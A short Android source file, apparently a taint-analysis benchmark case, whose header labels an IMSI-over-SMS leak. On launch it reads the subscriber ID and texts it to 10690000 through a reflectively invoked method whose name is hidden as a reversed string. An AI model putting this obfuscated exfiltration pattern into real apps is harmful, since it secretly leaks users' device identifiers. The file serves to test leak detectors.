// about       The name of the method that is called is written backwards, in capitals.
// leak        DEV_IMSI sms
package cn.example.flow;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
    String name = new StringBuilder("DNES").reverse().toString().toLowerCase();
    try {
      getClass().getMethod(name, String.class).invoke(this, phone.getSubscriberId());
    } catch (ReflectiveOperationException e) {
      finish();
    }
  }

  public void send(String text) {
    SmsManager.getDefault().sendTextMessage("10690000", null, text, null, null);
  }

  public void show(String text) {
    setTitle(text);
  }
}
